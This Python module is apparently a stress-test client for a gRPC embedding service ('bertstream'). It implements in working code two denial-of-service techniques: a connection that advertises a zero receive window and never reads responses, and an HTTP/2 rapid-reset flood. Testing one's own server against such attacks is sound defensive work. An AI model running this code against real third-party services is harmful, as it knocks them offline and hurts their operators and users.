"""A raw HTTP/2 gRPC client (h2, no gRPC library) for attacks a real client would never make: a
connection that advertises a receive window of 0 and never reads its answers, and a flood of
HEADERS + DATA + RST_STREAM (the HTTP/2 rapid-reset attack)."""

from __future__ import annotations

import socket
import struct
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings

METHOD = "/bertstream.v1.Embedder/"


def grpc_frame(message) -> bytes:
    """One gRPC length-prefixed message (uncompressed)."""
    data = message.SerializeToString()
    return struct.pack(">BI", 0, len(data)) + data


class RawConnection:
    """One HTTP/2 connection to host:port. window=0 advertises a stream receive window of 0, so
    the server can send (almost) nothing back; pings are answered (h2 does it) so the server's
    keepalive sees a live peer."""

    def __init__(self, target: str, window: int = 65535):
        host, port = target.rsplit(":", 1)
        self.sock = socket.create_connection((host, int(port)))
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        self.conn.local_settings = h2.settings.Settings(
            client=True, initial_values={h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: window,
                                         h2.settings.SettingCodes.ENABLE_PUSH: 0})
        self.conn.initiate_connection()
        self.flush()
        self.ended: dict[int, dict] = {}  # stream id -> trailers, once the server ended it
        self.goaway = None

    def flush(self) -> None:
        data = self.conn.data_to_send()
        if data:
            self.sock.sendall(data)

    def headers(self, method: str, end_stream: bool = False) -> int:
        stream = self.conn.get_next_available_stream_id()
        host = "%s:%d" % self.sock.getpeername()[:2]
        self.conn.send_headers(stream, [
            (":method", "POST"), (":scheme", "http"), (":path", METHOD + method),
            (":authority", host), ("content-type", "application/grpc"), ("te", "trailers")],
            end_stream=end_stream)
        return stream

    def send(self, stream: int, message, end_stream: bool = False) -> None:
        """One message, in frames the server's flow control allows (waiting for its window)."""
        data = grpc_frame(message)
        while data:
            room = min(self.conn.local_flow_control_window(stream),
                       self.conn.max_outbound_frame_size)
            if room <= 0:
                self.pump(0.05)
                continue
            self.conn.send_data(stream, data[:room], end_stream=end_stream and room >= len(data))
            data = data[room:]
            self.flush()

    def reset(self, stream: int) -> None:
        self.conn.reset_stream(stream)

    def pump(self, seconds: float) -> None:
        """Read what the server sends for `seconds` (answering pings and settings), without
        granting any window: received data is not acknowledged."""
        deadline = time.monotonic() + seconds
        while (left := deadline - time.monotonic()) > 0:
            self.sock.settimeout(left)
            try:
                data = self.sock.recv(1 << 16)
            except (socket.timeout, TimeoutError):
                return
            except OSError:
                self.goaway = self.goaway or "connection reset"
                return
            if not data:
                self.goaway = self.goaway or "connection closed"
                return
            for event in self.conn.receive_data(data):
                if isinstance(event, (h2.events.TrailersReceived, h2.events.ResponseReceived)):
                    headers = {(k.decode() if isinstance(k, bytes) else k):
                               (v.decode() if isinstance(v, bytes) else v)
                               for k, v in event.headers}
                    if "grpc-status" in headers:  # trailers, or a trailers-only answer
                        self.ended[event.stream_id] = headers
                elif isinstance(event, h2.events.StreamReset):
                    self.ended.setdefault(event.stream_id, {"reset": str(event.error_code)})
                elif isinstance(event, h2.events.ConnectionTerminated):
                    self.goaway = str(event.error_code)
            self.flush()

    def close(self) -> None:
        try:
            self.sock.close()
        except OSError:
            pass


def rapid_reset(target: str, message, seconds: float) -> dict:
    """One connection that opens an Embed call (HEADERS and its DATA) and resets it (RST_STREAM)
    again and again for `seconds`: the HTTP/2 rapid-reset attack. Returns how many it sent and
    whether the server ended the connection (GOAWAY or close)."""
    connection = RawConnection(target)
    sent, deadline = 0, time.monotonic() + seconds
    frame = grpc_frame(message)
    try:
        while time.monotonic() < deadline and connection.goaway is None:
            for _ in range(100):
                stream = connection.headers("Embed")
                while connection.conn.local_flow_control_window(stream) < len(frame):
                    connection.flush()
                    connection.pump(0.005)  # the server's WINDOW_UPDATE
                try:
                    connection.conn.send_data(stream, frame, end_stream=True)
                    connection.reset(stream)
                except h2.exceptions.StreamClosedError:  # the server ended it first
                    pass
                sent += 1
            try:
                connection.flush()
            except OSError:
                connection.goaway = connection.goaway or "connection reset"
                break
            connection.pump(0)  # settings, pings, GOAWAY
    finally:
        connection.close()
    return {"sent": sent, "goaway": connection.goaway}
